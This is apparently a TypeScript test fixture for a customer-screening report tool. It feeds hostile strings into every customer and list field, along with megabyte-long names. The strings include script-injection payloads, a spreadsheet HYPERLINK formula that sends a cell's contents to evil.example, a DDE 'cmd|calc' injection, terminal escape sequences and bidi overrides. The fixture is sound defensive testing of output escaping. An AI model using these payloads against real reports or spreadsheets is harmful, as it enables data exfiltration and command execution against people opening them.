import type { ScreenedRow } from '../../src/match/screened-row.js';
import { customer, input, match, part, rejection, screened, setAside } from './rows.js';

/** Data that attacks whoever looks at the report; every string stands in customer cells and in list fields alike. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(2)>',
  '<!--<script>',
  `]]>&amp;"'\`$\{alert(3)}`,
  'javascript:alert(4)',
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1)',
  '\tTAB',
  '\rCR',
  '\nLF',
  '＝1+1',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u009b31m C1',
  'left\u202eright\u202c',
  'isolate\u2066x\u2069',
  'line\u2028separator',
  'hidden\u{e0041}tag',
  '__proto__',
  'constructor',
  'lone \ud800 surrogate',
  'zero\u0000byte',
  'a,b;c"d\ne',
  '  spaced  ',
];

/** One row per attack: it is the customer's name, id and note, and the list's name, programme, id, link and texts. */
export function hostileRows(attacks: readonly string[] = ATTACKS): readonly ScreenedRow[] {
  return [
    ...attacks.map((attack, index) => {
      const found = match(attack, attack, {
        list: attack,
        entityId: `${attack}:${attack}`,
        names: [attack],
        programmes: [attack],
        measures: [{ effect: 'block', text: attack, source: 'list' }],
        url: attack,
        role: attack,
        explanation: [part('name', 84, attack)],
        settle: { field: 'dob', value: attack, ifEqual: 97, ifDifferent: 38 },
        decision: {
          status: 'confirmed',
          justification: attack,
          statement: attack,
          decidedBy: attack,
          approvedBy: attack,
          reopened: attack,
          decidedAt: attack,
          expiresAt: attack,
        },
      });
      return screened(
        index + 1,
        input(attack, attack, attack, attack, attack),
        customer(attack, { id: attack }),
        [found],
        [setAside(attack, attack, { list: attack, entityId: `${attack}:2`, reason: attack })],
      );
    }),
    rejection(attacks.length + 1, input(...attacks), attacks.join(' ')),
  ];
}

/** A name of a megabyte, as a customer and as a listed name, Latin, CJK and one letter under a pile of marks. */
export function hugeRows(): readonly ScreenedRow[] {
  return ['x', '范', '\u0301'].map((letter, index) => {
    const name = `a${letter.repeat(1 << 20)}`;
    return screened(index + 1, input('C', name), customer(name), [match(name, name)]);
  });
}
